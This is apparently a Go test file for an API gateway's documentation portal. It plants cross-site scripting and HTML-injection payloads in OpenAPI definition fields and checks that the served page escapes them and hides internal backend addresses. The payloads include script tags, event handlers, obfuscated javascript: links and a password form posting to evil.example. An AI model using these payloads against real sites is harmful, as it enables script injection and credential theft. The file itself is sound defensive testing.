package main

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
)

// A portalCase is a text of a definition that would like to be more than that on the
// portal's page.
type portalCase struct {
	name string
	at   string // where it is in the definition: the keys to it, parted by spaces
	text string
	page string // what stands on the page; "" where nothing of the text does
}

func portalCases() []portalCase {
	const model, operation = "components schemas M ", "paths /x post "
	return []portalCase{
		{"a script as the title", "info title", `</title><script>x()</script>`, `<title>&lt;/title&gt;&lt;script&gt;x()&lt;/script&gt; (prod)</title>`},
		{"a script in a description", "info description", `<script src=//evil.example></script>`, `<p>&lt;script src=//evil.example&gt;&lt;/script&gt;</p>`},
		{"an event's handler", "info description", `<img src=x onerror="x()">`, `<p>&lt;img src=x onerror=&quot;x()&quot;&gt;</p>`},
		{"a style", "info description", `<style>*{display:none}</style>`, `<p>&lt;style&gt;*{display:none}&lt;/style&gt;</p>`},
		{"a form for passwords", "info description", `<form action=//evil.example><input name=password>`, `<p>&lt;form action=//evil.example&gt;&lt;input name=password&gt;</p>`},
		{"an image that tells who reads", "info description", `![a](https://evil.example/a.png)`, `<p>!<a href="https://evil.example/a.png" rel="noopener noreferrer nofollow">a</a></p>`},
		{"a script as a link", "info description", `[a](javascript:x())`, `<p>[a](javascript:x())</p>`},
		{"one in capitals, with an entity", "info description", `[a](JAVA&#115;CRIPT:x)`, `<p>[a](JAVA&amp;#115;CRIPT:x)</p>`},
		{"a document as a link", "info description", `[a](data:text/html,<script>x</script>)`, `<p>[a](data:text/html,&lt;script&gt;x&lt;/script&gt;)</p>`},
		{"a link that leaves its attribute", "info description", `[a](https://b/"onclick="x)`, `<a href="https://b/%22onclick=%22x" rel="noopener noreferrer nofollow">a</a>`},
		{"a link to another page of this server", "info description", `[a](/_gatehouse/reset)`, `<p>[a](/_gatehouse/reset)</p>`},
		{"code that ends its element", "info description", "`</code><script>x</script>`", `<code>&lt;/code&gt;&lt;script&gt;x&lt;/script&gt;</code>`},
		{"a character that turns lines around", "info description", "a\u202eb\u0000c", "<p>a\u202eb\ufffdc</p>"},
		{"terms of service", "info termsOfService", "javascript:x()", `<li>Terms of service</li>`},
		{"a contact's name", "info contact name", `"><script>x</script>`, `Contact: &quot;&gt;&lt;script&gt;x&lt;/script&gt;`},
		{"a contact's page", "info contact url", "data:text/html,x", `<li>Contact</li>`},
		{"a version", "info version", `<b>1</b>`, `<bdi>&lt;b&gt;1&lt;/b&gt;</bdi>`},
		{"a summary", operation + "summary", `</a><script>x</script>`, `&lt;/a&gt;&lt;script&gt;x&lt;/script&gt;</bdi></a>`},
		{"a response's description", operation + "responses 200 description", `</dd><iframe src=x>`, `<p>&lt;/dd&gt;&lt;iframe src=x&gt;</p>`},
		{"a property's name", model + "properties", `{"<img/src=x>": {"type": "string"}}`, `<code>&lt;img/src=x&gt;</code> string`},
		{"a value's pattern", model + "properties a pattern", `^"><script>$`, `; pattern <code>^&quot;&gt;&lt;script&gt;$</code>`},
		{"a sample that ends its field", model + "properties a enum", `["</textarea><script>x</script>"]`, `&quot;a&quot;: &quot;&lt;/textarea&gt;&lt;script&gt;x&lt;/script&gt;&quot;`},
		{"a model's title", model + "title", `<script>x</script>`, ""},
		{"a server's URL", "servers 0 url", `https://evil.example/`, ""},
		{"what is behind a method", operation + "x-amazon-apigateway-integration uri", `http://secret.internal/`, ""},
		{"what is behind an authorizer", "components securitySchemes s x-amazon-apigateway-authorizer authorizerUri", "arn:aws:apigateway:us-east-1:lambda:path/2015-03-31/functions/arn:aws:lambda:us-east-1:000000000000:function:secret/invocations", ""},
	}
}

// definition is a definition that has the case's text.
func (c *portalCase) definition(t *testing.T) string {
	t.Helper()
	var doc map[string]any
	if err := json.Unmarshal([]byte(`{"openapi": "3.0.1", "info": {"title": "a", "version": "1", "contact": {}}, "servers": [{"url": "https://a.example/"}],
		"paths": {"/x": {"post": {"requestBody": {"content": {"application/json": {"schema": {"$ref": "#/components/schemas/M"}}}}, "responses": {"200": {"description": "ok"}}, "security": [{"s": []}],
			"x-amazon-apigateway-integration": {"type": "http", "httpMethod": "GET", "uri": "http://a.example/", "responses": {"default": {"statusCode": "200"}}}}}},
		"components": {"schemas": {"M": {"type": "object", "properties": {"a": {"type": "string"}}}}, "securitySchemes": {"s": {"type": "apiKey", "name": "Authorization", "in": "header", "x-amazon-apigateway-authtype": "custom",
			"x-amazon-apigateway-authorizer": {"type": "token", "authorizerUri": "arn:aws:apigateway:us-east-1:lambda:path/2015-03-31/functions/arn:aws:lambda:us-east-1:000000000000:function:a/invocations"}}}}}`), &doc); err != nil {
		t.Fatal(err)
	}
	var value any = c.text
	if json.Valid([]byte(c.text)) {
		value = json.RawMessage(c.text)
	}
	keys := strings.Fields(c.at)
	last := len(keys) - 1
	at := doc
	for _, key := range keys[:last] {
		switch of := at[key].(type) {
		case map[string]any:
			at = of
		case []any: // of one
			at = of[0].(map[string]any)
		}
	}
	at[keys[last]] = value
	text, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// TestSecurityPortal reads the page of each case as it is served.
func TestSecurityPortal(t *testing.T) {
	t.Parallel()
	var opened []string
	for i := range portalCases() {
		opened = append(opened, fmt.Sprint("c", i))
	}
	_, _, url := launchWith(t, t.TempDir(), "in-memory: true\nportal: ["+strings.Join(opened, ", ")+"]\n")
	for i, c := range portalCases() {
		t.Run(c.name, func(t *testing.T) {
			deployAPI(t, url, opened[i], c.definition(t))
			document(t, url, opened[i], "prod", "1")
			got := exchange(t, "GET", url+"/_gatehouse/docs/"+opened[i]+"/prod/", nil)
			if got.status != 200 || !strings.Contains(got.body, c.page) {
				_, body, _ := strings.Cut(got.body, "</style>")
				body, _, _ = strings.Cut(body, "<script>")
				t.Fatalf("got %d, want %s in\n%s", got.status, c.page, body)
			}
			if (strings.Contains(c.text, "<") || c.page == "") && strings.Contains(got.body, c.text) {
				t.Errorf("the page has %s as it is", c.text)
			}
			for _, secret := range []string{"a.example", "secret", "function:"} {
				if strings.Contains(got.body, secret) {
					t.Errorf("the page tells of %s", secret)
				}
			}
		})
	}
}

// TestSecurityPortalPage holds the table of the portal to the cases that
// TestSecurityPortal runs.
func TestSecurityPortalPage(t *testing.T) {
	b := tableOf("case", "in the definition", "on the page")
	for _, c := range portalCases() {
		page := "nothing of it"
		if c.page != "" {
			page = code(c.page)
		}
		b.row(c.name, code(c.text), page)
	}
	generated(t, "../../docs/security.md", "portal", b.String())
}
